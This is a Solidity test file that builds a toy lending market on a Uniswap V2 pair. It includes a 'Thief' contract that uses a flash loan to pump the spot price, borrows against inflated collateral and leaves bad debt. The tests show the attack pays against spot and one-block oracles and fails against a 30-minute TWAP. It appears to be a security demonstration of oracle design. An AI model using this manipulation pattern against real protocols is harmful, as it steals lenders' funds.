// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Token} from "gallery/shared/Erc20.sol";
import {FlashLender} from "gallery/shared/FlashLender.sol";
import {IFlashBorrower} from "gallery/shared/IFlashBorrower.sol";
import {IPair} from "../uniswap-v2-lending/src/IPair.sol";
import {Market} from "../uniswap-v2-lending/src/Market.sol";
import {IOracle, SpotOracle, WindowOracle} from "../uniswap-v2-lending/src/Oracles.sol";
import {Trader} from "../uniswap-v2-lending/src/Trader.sol";
// Written by prove.mjs.
import {FACTORY} from "./Bytecode.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
    function warp(uint256) external;
    function roll(uint256) external;
}

interface IFactory {
    function createPair(address a, address b) external returns (IPair);
}

/// Does what is asked with what it owns and, within a loan, with what it borrowed.
contract Thief is IFlashBorrower {
    /// For less the pair gives nothing.
    uint256 private constant DUST = 1e6;

    LendingTest private immutable t = LendingTest(msg.sender);
    uint256 private deposits;

    constructor() {
        t.cash().approve(address(t.trader()), type(uint256).max);
        t.gem().approve(address(t.trader()), type(uint256).max);
        t.gem().approve(address(t.market()), type(uint256).max);
    }

    /// Gem for `amount` of cash.
    function pump(uint256 amount) public {
        if (amount > DUST) t.trader().trade(false, amount, 0);
    }

    /// Against `gems` as much as there is, the rest of the gem for cash, and nothing is ever paid back.
    function leave(uint256 gems) public {
        Market market = t.market();
        if (gems > 0) market.deposit(gems);
        uint256 till = t.cash().balanceOf(address(market));
        uint256 limit = market.collateral(address(this)) * 6 / 10;
        if (limit > 0 && till > 0) market.borrow(limit < till ? limit : till);
        uint256 rest = t.gem().balanceOf(address(this));
        if (rest > DUST) t.trader().trade(true, rest, 0);
    }

    /// Both within a loan of cash.
    function atOnce(uint256 loan, uint256 gems) external {
        deposits = gems;
        t.lender().flashLoan(this, address(t.cash()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        pump(t.cash().balanceOf(address(this)));
        uint256 has = t.gem().balanceOf(address(this));
        leave(deposits < has ? deposits : has);
        t.cash().approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// The set-up of the three projects.
abstract contract LendingTest {
    event log_named_decimal_uint(string key, uint256 value, uint256 decimals);

    Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant alice = address(0xa11ce);
    address private constant bob = address(0xb0b);
    address private constant carol = address(0xca401);
    address private constant dave = address(0xda7e);

    uint256 internal constant START = 1_700_000_000;
    /// The base state: an hour and a block behind the start.
    uint256 internal constant BASE = START + 3_612;
    /// What the attacker of `heist.toml` has.
    uint256 internal constant CASH = 300_000 ether;
    uint256 internal constant GEMS = 500 ether;

    Token public gem;
    Token public cash;
    FlashLender public lender;
    IPair public pair;
    IOracle public oracle;
    Market public market;
    Trader public trader;

    function _oracle() internal virtual returns (IOracle);
    function _update() internal virtual;

    function setUp() public {
        vm.warp(START);
        gem = new Token("Gem", "GEM");
        cash = new Token("Cash", "CASH");
        lender = new FlashLender(9);
        pair = _factory().createPair(address(gem), address(cash));
        trader = new Trader(pair, gem, cash);
        gem.mint(address(pair), 10_000 ether);
        cash.mint(address(pair), 200_000 ether);
        pair.mint(alice);
        gem.mint(address(lender), 20_000 ether);
        cash.mint(address(lender), 1_000_000 ether);
        oracle = _oracle();
        market = new Market(gem, cash, oracle);
        _supply(alice, 100_000 ether);
        _supply(bob, 80_000 ether);
        vm.warp(START + 1_800);
        _update();
        vm.warp(START + 3_600);
        _update();
        _owe(carol, 2_000 ether, 16_000 ether);
        _owe(dave, 1_500 ether, 14_000 ether);
        _at(0);
        require(cash.balanceOf(address(market)) == 150_000 ether && oracle.price() == 20 ether, "another set-up");
    }

    /// Time behind the base state.
    function _at(uint256 elapsed) internal {
        vm.warp(BASE + elapsed);
        vm.roll(302 + elapsed / 12);
    }

    function _factory() private returns (IFactory factory) {
        bytes memory code = abi.encodePacked(FACTORY, abi.encode(address(this)));
        assembly {
            factory := create(0, add(code, 32), mload(code))
        }
        require(address(factory) != address(0), "no factory");
    }

    function _supply(address who, uint256 amount) private {
        cash.mint(who, amount);
        vm.startPrank(who);
        cash.approve(address(market), amount);
        market.supply(amount);
        vm.stopPrank();
    }

    function _owe(address who, uint256 gems, uint256 debt) internal {
        gem.mint(who, gems);
        vm.startPrank(who);
        gem.approve(address(market), gems);
        market.deposit(gems);
        market.borrow(debt);
        vm.stopPrank();
    }

    function _thief(uint256 coins, uint256 gems) internal returns (Thief thief) {
        thief = new Thief();
        cash.mint(address(thief), coins);
        gem.mint(address(thief), gems);
    }

    /// At the prices before the attack.
    function _wealth(Thief thief) internal view returns (uint256) {
        return cash.balanceOf(address(thief)) + gem.balanceOf(address(thief)) * 20;
    }

    /// Own cash that is in the pair for `wait` seconds.
    function _hold(Thief thief, uint256 coins, uint256 gems, uint256 wait) internal {
        uint256 begin = block.timestamp - BASE;
        thief.pump(coins);
        _at(begin + wait);
        _update();
        uint256 has = gem.balanceOf(address(thief));
        thief.leave(gems < has ? gems : has);
    }

    function _requireProfit(Thief thief, uint256 had, uint256 least) internal {
        uint256 has = _wealth(thief);
        require(has > had, "a loss");
        emit log_named_decimal_uint("profit in cash", has - had, 18);
        require(has - had > least, "too little profit");
        require(market.debt(address(thief)) > market.deposited(address(thief)) * 20, "no bad debt");
    }

    function _requireNoProfit(Thief thief, uint256 had) internal view {
        require(_wealth(thief) <= had, "a profit");
    }

    function test_honest_borrowers_get_60_percent() public {
        _owe(address(0x1), 100 ether, 1_200 ether);
        gem.mint(address(0x2), 100 ether);
        vm.startPrank(address(0x2));
        gem.approve(address(market), 100 ether);
        market.deposit(100 ether);
        (bool more,) = address(market).call(abi.encodeCall(Market.borrow, (1_200 ether + 1)));
        require(!more, "lends more than 60 %");
        vm.stopPrank();
    }
}

contract UniswapV2LendingSpotTest is LendingTest {
    function _oracle() internal override returns (IOracle) {
        return new SpotOracle(pair, gem);
    }

    function _update() internal override {}

    function test_a_loan_pays() public {
        Thief thief = _thief(0, 0);
        thief.atOnce(1_000_000 ether, 349 ether);
        _requireProfit(thief, 0, 140_000 ether);
        require(cash.balanceOf(address(market)) == 0, "not emptied");
    }

    function test_half_of_the_own_cash_pays_without_a_loan() public {
        Thief thief = _thief(CASH / 2, GEMS / 2);
        _hold(thief, CASH / 2, 2_868 ether, 0);
        _requireProfit(thief, CASH / 2 + GEMS * 10, 25_000 ether);
    }
}

abstract contract WindowTest is LendingTest {
    function _period() internal pure virtual returns (uint256);

    function _oracle() internal override returns (IOracle) {
        return new WindowOracle(pair, gem, _period());
    }

    /// Where the window is long enough.
    function _update() internal override {
        WindowOracle windows = WindowOracle(address(oracle));
        if (block.timestamp >= windows.windowStart() + _period()) windows.update();
    }

    /// A price that nobody holds for any time is no part of an average.
    function testFuzz_a_loan_does_not_pay(uint256 coins, uint256 gems, uint256 start) public {
        _at(start % 4 hours);
        _update();
        Thief thief = _thief(CASH, GEMS);
        // Whoever deposits more cannot pay back.
        thief.atOnce(coins % 1_000_000 ether, gems % 5_000 ether);
        _requireNoProfit(thief, CASH + GEMS * 20);
    }
}

contract UniswapV2LendingTwapTest is WindowTest {
    function _period() internal pure override returns (uint256) {
        return 30 minutes;
    }

    /// Whenever it begins, and whether it closes a window first.
    function testFuzz_two_blocks_do_not_pay(uint256 coins, uint256 gems, uint256 start, uint256 blocks, bool closes) public {
        _two_blocks(coins % (CASH + 1), gems % 10_000 ether, start % 4 hours, blocks % 3, closes);
    }

    /// All own cash, with the window due at the end, for the amount of collateral that would be the best one.
    function test_two_blocks_at_the_end_of_a_window_do_not_pay() public {
        for (uint256 gems = 0; gems < 6_000 ether; gems += 250 ether) {
            setUp();
            // The window began a block before the base state.
            _two_blocks(CASH, gems, _period() - 12 - 24, 2, false);
            require(oracle.price() < 21.5 ether, "moved too far");
        }
    }

    function _two_blocks(uint256 coins, uint256 gems, uint256 start, uint256 blocks, bool closes) private {
        _at(start);
        if (closes) _update();
        Thief thief = _thief(CASH, GEMS);
        _hold(thief, coins, gems, blocks * 12);
        _requireNoProfit(thief, CASH + GEMS * 20);
    }

    /// What the length of the window is there against: nobody trades for half an hour.
    function test_a_whole_window_pays() public {
        Thief thief = _thief(CASH, GEMS);
        _hold(thief, CASH, 2_015 ether, 1_788);
        _requireProfit(thief, CASH + GEMS * 20, 100_000 ether);
    }
}

contract UniswapV2LendingBlockTest is WindowTest {
    function _period() internal pure override returns (uint256) {
        return 12 seconds;
    }

    function test_one_block_pays() public {
        _one_block(1, 2_004 ether, true, 100_000 ether);
    }

    function test_one_block_pays_without_closing_a_window_first() public {
        _one_block(1, 3_453 ether, false, 50_000 ether);
    }

    function test_one_block_pays_with_half_of_the_own_cash() public {
        _one_block(2, 2_868 ether, true, 25_000 ether);
    }

    /// With the `part`th part of what the attacker has.
    function _one_block(uint256 part, uint256 gems, bool closes, uint256 least) private {
        if (closes) _update();
        Thief thief = _thief(CASH / part, GEMS / part);
        _hold(thief, CASH / part, gems, 12);
        _requireProfit(thief, (CASH + GEMS * 20) / part, least);
    }
}
